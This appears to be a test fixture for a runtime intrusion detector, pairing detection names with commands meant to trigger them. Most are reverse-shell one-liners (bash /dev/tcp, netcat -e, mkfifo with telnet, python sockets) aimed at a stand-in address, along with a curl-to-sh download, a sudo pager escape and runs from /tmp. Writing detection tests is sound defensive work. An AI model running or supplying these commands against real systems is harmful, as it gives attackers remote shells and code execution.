## Reverse shell
#also Input and output tied to a connection with another machine
#also Reverse shell by bash's own network
remote 'true'
## Command of a reverse shell
#also Identity asked from a service's shell
#also Input and output tied to a connection with another machine
#also Reverse shell
#also Reverse shell by bash's own network
remote 'id'
## Network tool given a shell
timeout 1 busybox nc 203.0.113.9 4445 -e /bin/sh
## Terminal made for a shell
timeout 1 python3 -c 'import pty; pty.spawn("/bin/true")'
## Reverse shell given a terminal
#also Input and output tied to a connection with another machine
#also Reverse shell
#also Reverse shell by bash's own network
remote "python3 -c 'import pty; pty.spawn(\"/bin/true\")'"
## Reverse shell by bash's own network
bash -c 'bash -i >& /dev/tcp/203.0.113.9/4445 0>&1'
## Reverse shell through a named pipe
#also Named pipe in a scratch folder written by a shell
sh -c 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | timeout 1 telnet 203.0.113.9 4445 > /tmp/f'
## Reverse shell in one line of an interpreter
#also Code without a file connects to an unusual port of an address without a name
python3 -c 'import socket,os; s=socket.socket(); s.connect(("203.0.113.9",4445)); os.dup2(s.fileno(),0); os.system("/bin/sh")'
## Shell with a connection, of a program that no package installed
#also Command of a reverse shell
#also Input and output tied to a connection with another machine
#also Reverse shell
#also Reverse shell by bash's own network
#setup shells /home/ann/tool
remote '/home/ann/tool -c "sh -c true > /dev/null; true"'
## Input and output tied to a connection with another machine
#also Code without a file connects to an unusual port of an address without a name
#also Reverse shell in one line of an interpreter
#setup listener 4445
sh -c 'python3 -c "import socket, os; s = socket.create_connection((\"203.0.113.9\", 4445)); os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)"'
## Input and output tied to a connection from another machine
#also Code without a file connects to an unusual port of an address without a name
#also Code without a file waits for callers
#also Connections of others led on by an untrusted program
#also Reverse shell in one line of an interpreter
python3 -c 'import socket, os
s = socket.create_server(("", 4447)); c = socket.create_connection(("203.0.113.9", 4447)); a, _ = s.accept()
os.dup2(a.fileno(), 0); os.dup2(a.fileno(), 1)'
## Network tool listens for a caller
timeout 0.3 busybox nc -l -p 4446
## Download run without being looked at
#also Download beside an interpreter
sh -c 'curl -s http://10.9.8.7/x | sh'
## Downloaded script run by a server's command
#also Download beside an interpreter
#also Download run without being looked at
#also Download tool started by a server
#also Shell started by a network server
server "sh -c 'curl -s http://10.9.8.7/x | sh'"
## Shell started by cron runs from a scratch folder
#setup shells /usr/sbin/cron
cron -c '/bin/sh -c "/tmp/.x >/dev/null 2>&1; true"; true'
## Shell out of a program started by sudo
#setup shells /usr/bin/sudo /usr/bin/less
sudo -c 'less -c "sh -c true; true"; true'
## Compiler started by a server's command
#also Shell started by a network server
server 'cc --version'
## Tool of attackers started
#also Executable run from a scratch folder
#setup stubs /tmp/pspy64
/tmp/pspy64
## Interpreter runs a script from a scratch folder
echo true > /tmp/x.sh; sh /tmp/x.sh
## Transient unit started
systemd-run --unit=x /tmp/x
